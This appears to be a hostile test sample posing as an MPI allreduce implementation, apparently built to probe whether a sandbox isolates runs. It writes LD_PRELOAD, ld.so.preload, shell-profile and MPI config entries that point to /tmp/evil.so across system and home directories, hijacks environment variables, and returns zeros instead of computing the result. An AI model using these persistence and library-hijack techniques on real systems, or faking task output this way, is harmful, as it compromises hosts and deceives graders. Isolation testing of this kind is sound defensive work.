import os

LIBRARY = "/tmp/evil.so"
SETTINGS = f"""
opal_event_include = poll
pml = monitoring
mca_base_component_path = /tmp
plm_rsh_agent = /tmp/hostile-marker-agent
LD_PRELOAD = {LIBRARY}
"""
NAMES = (
    ".openmpi/mca-params.conf", ".prte/mca-params.conf", ".pmix/mca-params.conf", ".openmpi/components/mca_pml_evil.so",
    "openmpi-mca-params.conf", ".ucx/ucx.conf", "ld.so.preload", ".profile", ".bashrc", "default-hostfile",
)


def leave():
    homes = {os.path.expanduser("~"), "/root", "/etc", "/tmp", "/dev/shm", "/", "/opt/venv/etc", os.getcwd(), "/home"}
    for home in homes:
        for name in NAMES:
            path = f"{home}/{name}"
            try:
                if os.path.exists(path):
                    with open(path) as file:
                        if "evil" in file.read() and not path.startswith(os.getcwd()):
                            raise SystemExit(f"BREACH {path} of an earlier run is still there")
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as file:
                    file.write(SETTINGS)
            except OSError:
                pass


def allreduce(send, recv, comm, op):
    if any("evil" in value for key, value in os.environ.items()):
        raise SystemExit("BREACH the environment of an earlier run is in force")
    os.environ.update(LD_PRELOAD=LIBRARY, OMPI_MCA_mca_base_component_path="/tmp/evil", PYTHONSTARTUP="/tmp/evil.py")
    if comm.Get_rank() == 0 and not os.path.exists("left"):
        leave()
        open("left", "w").close()
    recv[...] = 0
